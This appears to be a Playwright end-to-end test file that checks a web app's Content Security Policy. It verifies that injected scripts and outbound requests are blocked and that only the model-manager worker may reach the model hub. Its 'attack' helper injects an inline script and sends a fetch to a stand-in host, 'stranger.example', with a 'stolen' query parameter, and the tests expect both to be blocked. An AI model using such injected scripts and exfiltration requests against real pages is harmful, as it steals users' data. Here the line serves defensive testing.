import type { Page } from '@playwright/test';
import { expect, hostedTest as test } from '../fixtures/hosting/hosted.ts';
import { startHub } from '../fixtures/hub/hub-server.ts';
import { ModelsPlace } from '../fixtures/pages/models-place.ts';

/** An injected script could do two things. It could run, and it could send something away. */
async function attack(page: Page) {
  return page.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'document.documentElement.dataset.attacked = "yes"';
    document.head.append(script);
    const sent = await fetch('https://stranger.example/?stolen=picture', { mode: 'no-cors' }).then(
      () => 'sent',
      () => 'blocked',
    );
    return { ran: document.documentElement.dataset['attacked'] ?? 'blocked', sent };
  });
}

const both = { ran: 'blocked', sent: 'blocked' };

test('the page runs no script but its own, and only the model manager may speak with another host', async ({
  page,
  studio,
  watch,
}) => {
  const hub = await startHub();
  watch.foresee(hub.isIt);
  await studio.openReady();
  expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
  await studio.openPack('Two strangers');
  const models = new ModelsPlace(page);
  await models.open();
  await models.takeFrom(hub.address);
  await models.download('DINOv2 small');
  // Nothing that the page itself does violates the policy. Every complaint before this line fails the test.
  expect(watch.complaints()).toEqual([]);

  watch.foresee(/Content Security Policy|stranger\.example/);
  expect(await attack(page)).toEqual(both);

  await test.step('of the page and its workers only the model manager', async () => {
    const ask = (url: string) =>
      fetch(url, { cache: 'no-store' }).then(
        () => 'sent',
        () => 'blocked',
      );
    const url = `${hub.address}api/models/onnx-community/dinov2-small/revision/main`;
    expect(await page.evaluate(ask, url)).toBe('blocked');
    const answers = page.workers().map(async (worker) => {
      const name = /([a-z-]+)\.worker/.exec(worker.url())?.[1] ?? '';
      return [name, await worker.evaluate(ask, url)] as const;
    });
    expect(Object.fromEntries(await Promise.all(answers))).toMatchObject({
      engine: 'blocked',
      'model-manager': 'sent',
    });
  });
  await hub.close();
});

test('where a host sets no headers the page brings its policy itself, works, and can fetch a model', async ({
  host,
  page,
  studio,
  watch,
}) => {
  const hub = await startHub();
  watch.foresee(hub.isIt);
  host.forgetHeaders();
  await studio.openReady();
  expect(await page.evaluate(() => crossOriginIsolated)).toBe(false);
  await studio.openPack('Two strangers');
  const models = new ModelsPlace(page);
  await models.open();
  await models.takeFrom(hub.address);
  await models.download('DINOv2 small');
  await hub.close();
  expect(watch.complaints()).toEqual([]);
  watch.foresee(/Content Security Policy|stranger\.example/);
  expect(await attack(page)).toEqual(both);
});
